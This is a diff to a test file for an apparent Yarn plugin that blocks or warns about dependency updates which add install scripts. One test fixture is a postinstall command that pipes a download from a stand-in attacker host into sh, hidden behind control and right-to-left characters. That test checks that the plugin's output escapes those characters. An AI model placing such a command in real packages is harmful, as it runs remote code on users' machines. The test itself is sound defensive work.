@@ -177,8 +177,79 @@ describe(`the install-script rule`, () => {
 
     const result = await project.install([`up`, `lib`], {YARN_ENABLE_SCRIPTS: `0`});
 
-    expect(result.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds a postinstall script (${PREINSTALL}); Yarn would run it during the link step wherever scripts are on (enableScripts is false here only by YARN_ENABLE_SCRIPTS, which is not the project's .yarnrc.yml) (via app@workspace:. > lib@npm:1.0.1)`);
+    expect(result.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds a postinstall script (${PREINSTALL}); Yarn would run it during the link step wherever scripts are on (enableScripts is false here by YARN_ENABLE_SCRIPTS, not by the project's .yarnrc.yml) (via app@workspace:. > lib@npm:1.0.1)`);
     await expectStopped(project, registry, result, lockfile);
+  });
+
+  it.each([
+    [`default`, `enableScripts: true`, {enableScripts: true}, `YARN_ENABLE_SCRIPTS=0`, {YARN_ENABLE_SCRIPTS: `0`}, `stops it`],
+    [`4.10.3`, `enableScripts: false`, {enableScripts: false}, `YARN_ENABLE_SCRIPTS=0`, {YARN_ENABLE_SCRIPTS: `0`}, `lets it through`],
+    [`4.10.3`, `enableScripts: false`, {enableScripts: false}, `no variable`, SCRIPTS_AS_THE_RELEASE_DEFAULTS, `lets it through`],
+  ])(`on Yarn %s, with %s in the project's own .yarnrc.yml and %s, %s`, async (yarn, _, yarnrc, __, env, outcome) => {
+    const registry = await registryWithLib();
+    const project = await lockedOnLib(registry, {yarn, yarnrc});
+    const lockfile = await project.lockfile();
+    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});
+
+    const result = await project.install([`up`, `lib`], env);
+
+    if (outcome === `stops it`) {
+      expect(result.output).toContain(`Yarn would run it during the link step wherever scripts are on (enableScripts is false here by YARN_ENABLE_SCRIPTS, not by the project's .yarnrc.yml)`);
+      await expectStopped(project, registry, result, lockfile);
+    } else {
+      expect(result.code, result.output).toBe(0);
+      expect(result.output).toContain(`lib@npm:1.0.1: 1.0.0 -> 1.0.1 adds a postinstall script (${PREINSTALL}); they will not run here: enableScripts is false`);
+      expect(await project.scriptRan()).toBe(false);
+    }
+  });
+
+  it.each([
+    [`the release-age rule off`, {quarantinePeriod: `0`}],
+    [`the package exempt from the release-age rule`, {quarantineExemptPackages: [`lib`]}],
+  ])(`fails closed when the registry will not give its document, with %s`, async (_, yarnrc) => {
+    const registry = await registryWithLib();
+    const project = await lockedOnLib(registry, {yarnrc});
+    const lockfile = await project.lockfile();
+    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});
+    // Yarn revalidates its own copy; only the plugin asks for the whole document without one.
+    registry.addFault({match: `/lib`, kind: `status`, status: 500, withoutCachedCopy: true});
+
+    const result = await project.install([`up`, `lib`]);
+
+    expect(result.code, result.output).toBe(1);
+    expect(result.output).toMatch(/lib@npm:1\.0\.1: could not learn its install scripts \(.*500.*\), so the install-script rule fails closed; Yarn would run them during the link step/);
+    expect(result.output).toContain(`Quarantine: 1 violation: 1 of the install-script rule (1 install scripts not learnt)`);
+    expect(await project.lockfile()).toBe(lockfile);
+    expect(tarballRequests(registry)).toEqual([]);
+    expect(await project.scriptRan()).toBe(false);
+  });
+
+  it(`prints a command's control characters escaped, so the line shows what would run`, async () => {
+    const registry = await registryWithLib();
+    const project = await lockedOnLib(registry);
+    publish(registry, `1.0.1`, {scripts: {postinstall: `curl -s https://attacker.invalid/x | sh #\r\u202enode install.js`}});
+
+    const result = await project.install([`up`, `lib`]);
+
+    expect(result.code).toBe(1);
+    expect(result.output).toContain(`adds a postinstall script (curl -s https://attacker.invalid/x | sh #\\u000d\\u202enode install.js)`);
+    expect(result.output).not.toContain(`\r`);
+  });
+
+  it(`offers yarn up of the previous version only for a dependency a workspace declares`, async () => {
+    const registry = await registryWith({packages: [
+      {name: `lib`, versions: {'1.0.0': AGED}},
+      {name: `parent`, versions: {'1.0.0': {...AGED, dependencies: {lib: `^1.0.0`}}}},
+    ]});
+    const project = await lockedOnLib(registry, {manifest: {...APP, dependencies: {parent: `^1.0.0`, lib: `^1.0.0`}}});
+    await project.setManifest({dependencies: {parent: `^1.0.0`}});
+    expect((await project.install()).code).toBe(0);
+    publish(registry, `1.0.1`, {scripts: {postinstall: PREINSTALL}});
+
+    const result = await project.install([`up`, `-R`, `lib`]);
+
+    expect(result.code, result.output).toBe(1);
+    expect(result.output).toContain(`(via app@workspace:. > parent@npm:1.0.0 > lib@npm:1.0.1). Fix: if you trust the script, run yarn quarantine approve --scripts lib@1.0.1, which adds this version to quarantineApprovedScripts; otherwise keep yarn.lock's 1.0.0, or keep it from running with`);
   });
 
   it(`reports the same lines as warnings and goes on under warn, and says nothing under off`, async () => {
@@ -187,10 +258,14 @@ describe(`the install-script rule`, () => {
     const silent = await lockedOnLib(registry, {yarnrc: {quarantineInstallScripts: `off`}});
     publish(registry, `1.0.1`, {scripts: {postinstall: `node -e "0"`}});
 
-    const warning = await warned.install([`up`, `lib`]);
+    // `yarn install --json` prints each line with its severity (`yarn up` has no --json).
+    await warned.setManifest({dependencies: {lib: `^1.0.1`}});
+    const warning = await warned.install([`install`, `--json`]);
     expect(warning.code, warning.output).toBe(0);
-    expect(warning.output).toMatch(/YN0000: .*lib@npm:1\.0\.1: 1\.0\.0 -> 1\.0\.1 adds a postinstall script/);
+    const lines = warning.stdout.trim().split(`\n`).map(line => JSON.parse(line));
+    expect(lines.filter(line => String(line.data).includes(`adds a postinstall script`))).toEqual([expect.objectContaining({type: `warning`})]);
     expect(warning.output).toMatch(/quarantineInstallScripts warn/);
+    expect(await warned.lockfile()).toContain(`resolution: "lib@npm:1.0.1"`);
 
     const off = await silent.install([`up`, `lib`]);
     expect(off.code, off.output).toBe(0);
@@ -242,7 +317,13 @@ describe(`the install-script rule`, () => {
     expect(await project.lockfile()).toBe(lockfile);
     expect(tarballRequests(registry)).toEqual([]);
 
-    await project.setYarnrc({quarantineApprovedScripts: [`lib@1.0.1`]});
+    await project.setYarnrc({quarantineInstallScripts: `warn`});
+    const warned = await project.install([`up`, `lib`, `--mode=update-lockfile`]);
+    expect(warned.code, warned.output).toBe(0);
+    expect(warned.output).toContain(`lib@npm:1.0.1: the registry says this version has install scripts but leaves out which`);
+    await project.writeFile(`yarn.lock`, lockfile!);
+
+    await project.setYarnrc({quarantineInstallScripts: undefined, quarantineApprovedScripts: [`lib@1.0.1`]});
     const approved = await project.install([`up`, `lib`]);
     expect(approved.code, approved.output).toBe(0);
   });
